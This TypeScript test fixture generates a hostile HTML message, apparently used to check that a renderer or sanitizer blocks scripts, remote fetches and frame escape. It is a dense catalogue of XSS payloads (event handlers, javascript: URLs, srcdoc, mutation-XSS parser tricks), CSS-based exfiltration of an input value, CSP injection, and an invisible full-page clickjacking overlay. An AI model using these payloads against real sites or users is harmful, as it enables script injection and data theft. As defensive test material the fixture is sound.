/** A message that tries every way known to us to run a script, to fetch something, or to leave its frame. */

/** `origin` counts what is fetched from it: `/fetch/<way>` by markup and styles, `/ran/<way>` by script. */
export function hostileHtml(origin: string): string {
  const fetch = (way: string) => `${origin}/fetch/${way}`
  const run = (way: string) => `(new Image).src='${origin}/ran/${way}'`
  return `<!doctype html><html manifest="${fetch('manifest')}"><head>
<base href="${origin}/fetch/base/">
${headFetches(fetch)}
<style>${stylesThatFetch(fetch)}</style>
${headScripts(origin, run)}
</head><body background="${fetch('body-background')}" onload="${run('body-onload')}">
<p id="words">Words of a stranger</p>
${waysOut(fetch)}
${mediaThatFetch(fetch)}
${stylesInMarkup(fetch)}
${vectorsThatFetch(fetch, run)}
${scriptsInMarkup(origin, run)}
</body></html>`
}

type Url = (way: string) => string

const headFetches = (fetch: Url) => `
<meta http-equiv="refresh" content="1;url=${fetch('meta-refresh')}">
<meta http-equiv="Content-Security-Policy" content="default-src *; img-src *; script-src * 'unsafe-inline'; style-src * 'unsafe-inline'">
<meta http-equiv="Link" content="<${fetch('meta-link')}>; rel=preload; as=image">
<link rel="stylesheet" href="${fetch('link-stylesheet')}">
<link rel="preload" as="image" href="${fetch('link-preload')}">
<link rel="prefetch" href="${fetch('link-prefetch')}">
<link rel="prerender" href="${fetch('link-prerender')}">
<link rel="modulepreload" href="${fetch('link-modulepreload')}">
<link rel="icon" href="${fetch('link-icon')}">
<link rel="manifest" href="${fetch('link-manifest')}">
<link rel="alternate stylesheet" title="a" href="${fetch('link-alternate')}">
<link rel="import" href="${fetch('link-import')}">`

const stylesThatFetch = (fetch: Url) => `
@import url("${fetch('css-import')}");
@import "${fetch('css-import-string')}";
@font-face { font-family: far; src: url("${fetch('css-font')}") }
@namespace svg url("${fetch('css-namespace')}");
#words { font-family: far; background: url("${fetch('css-background')}"); cursor: url("${fetch('css-cursor')}"), auto }
#words::before { content: url("${fetch('css-content')}") }
ul { list-style-image: url("${fetch('css-list')}") }
.border { border: 9px solid; border-image: url("${fetch('css-border')}") 9 }
.mask { width: 9px; height: 9px; background: red; mask-image: url("${fetch('css-mask')}") }
.set { background-image: image-set("${fetch('css-image-set')}" 1x) }
.filter { filter: url("${fetch('css-filter')}#a") }
.shape { float: left; shape-outside: url("${fetch('css-shape')}") }
:root { --far: url("${fetch('css-variable')}") } .variable { background: var(--far) }
input[value^="s"] { background: url("${fetch('css-exfiltration')}") }
@media (min-width: 1px) { .media { background: url("${fetch('css-media')}") } }`

const headScripts = (origin: string, run: Url) => `
<script>${run('inline-script')}</script>
<script src="${origin}/ran/script-src"></script>
<script type="module">${run('module')}</script>
<script type="speculationrules">{"prefetch":[{"source":"list","urls":["${origin}/fetch/speculation"]}]}</script>
<noscript><img src="${origin}/fetch/noscript"></noscript>`

const mediaThatFetch = (fetch: Url) => `
<img src="${fetch('img')}">
<img srcset="${fetch('img-srcset')} 1x, ${fetch('img-srcset-2')} 2x">
<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" lowsrc="${fetch('img-lowsrc')}" longdesc="${fetch('img-longdesc')}">
<img src="relative-image">
<img src="//${new URL(fetch('x')).host}/fetch/img-protocol-relative">
<picture><source srcset="${fetch('picture')}"><img src="${fetch('picture-img')}"></picture>
<input type="image" src="${fetch('input-image')}">
<video src="${fetch('video')}" poster="${fetch('video-poster')}" autoplay muted></video>
<audio src="${fetch('audio')}" autoplay></audio>
<video autoplay muted><source src="${fetch('source')}"><track default src="${fetch('track')}"></video>
<iframe src="${fetch('iframe')}"></iframe>
<iframe srcdoc="<img src='${fetch('iframe-srcdoc')}'>"></iframe>
<object data="${fetch('object')}"></object>
<embed src="${fetch('embed')}">
<portal src="${fetch('portal')}"></portal>
<table background="${fetch('table-background')}"><tr><td background="${fetch('td-background')}">a</td></tr></table>
<bgsound src="${fetch('bgsound')}">`

const stylesInMarkup = (fetch: Url) => `
<div style="background:url('${fetch('style-background')}')">a</div>
<div style="background:\\75rl(${fetch('style-escaped')})">a</div>
<div style="background-image:image-set(url(${fetch('style-image-set')}) 1x)">a</div>
<ul style="list-style:url('${fetch('style-list')}')"><li>a</li></ul>
<div class="border">a</div><div class="mask"></div><div class="set">a</div><div class="filter">a</div>
<div class="shape">a</div><div class="variable">a</div><div class="media">a</div><ul><li>b</li></ul>
<input value="secret" readonly>
<div style="position:fixed;inset:0;z-index:9999;opacity:0">over everything</div>`

const vectorsThatFetch = (fetch: Url, run: Url) => `
<svg width="9" height="9"><image href="${fetch('svg-image')}" width="9" height="9"/></svg>
<svg><use href="${fetch('svg-use')}#a"/></svg>
<svg width="9" height="9"><filter id="f"><feImage href="${fetch('svg-feimage')}"/></filter><rect width="9" height="9" filter="url(#f)"/></svg>
<svg><style>@import url("${fetch('svg-style-import')}"); rect { fill: url("${fetch('svg-fill')}") }</style><rect width="9" height="9"/></svg>
<svg onload="${run('svg-onload')}"><script>${run('svg-script')}</script></svg>
<svg><a href="javascript:${run('svg-a')}"><text y="9">a</text></a>
<animate attributeName="href" values="javascript:${run('svg-animate')}"/></svg>
<svg><set attributeName="onmouseover" to="${run('svg-set')}"/></svg>
<svg><foreignObject><img src="${fetch('svg-foreign')}"></foreignObject></svg>
<math><mtext><img src="${fetch('math')}"></mtext></math>`

const scriptsInMarkup = (origin: string, run: Url) => `
<img src="x:" onerror="${run('img-onerror')}">
<details open ontoggle="${run('details-ontoggle')}"><summary>a</summary></details>
<input autofocus onfocus="${run('input-onfocus')}">
<video onerror="${run('video-onerror')}"><source src="x:"></video>
<marquee onstart="${run('marquee-onstart')}">a</marquee>
<iframe src="javascript:${run('iframe-javascript')}"></iframe>
<iframe srcdoc="<script>${run('srcdoc-script')}</script>"></iframe>
<object data="data:text/html,<script>fetch('${origin}/ran/object-data')</script>"></object>
<div style="animation:a 1s" onanimationstart="${run('animation')}">a</div>
<noscript><p title="</noscript><img src=x: onerror=${run('mutation')}>"></noscript>
<template><script>${run('template')}</script></template>
<form><math><mtext></form><form><mglyph><style></math><img src onerror="${run('mutation-math')}">`

const waysOut = (fetch: Url) => `
<form id="form" action="${fetch('form')}" method="post"><input name="secret" value="1"><button formaction="${fetch('formaction')}">Send</button></form>
<a id="link" href="${fetch('link')}" ping="${fetch('ping')}" target="_top">A link</a>
<a id="script-link" href="javascript:location='${fetch('javascript-link')}'">Another link</a>
<a href="data:text/html,<script>alert(1)</script>">a</a>
<map name="m"><area href="${fetch('area')}" shape="default"></map>`
